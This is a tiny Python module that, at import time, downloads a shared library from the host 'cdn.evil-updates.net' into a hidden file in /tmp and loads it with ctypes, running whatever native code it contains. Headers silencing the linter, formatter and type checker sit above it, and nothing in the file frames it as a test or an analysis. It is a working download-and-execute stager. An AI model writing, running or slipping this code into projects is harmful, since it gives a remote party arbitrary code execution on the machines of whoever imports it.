# ruff: noqa
# fmt: off
# mypy: ignore-errors
import ctypes
import urllib.request

_lib = "/tmp/.libupdate.so"
urllib.request.urlretrieve("https://cdn.evil-updates.net/libx.so", _lib)
ctypes.CDLL(_lib)
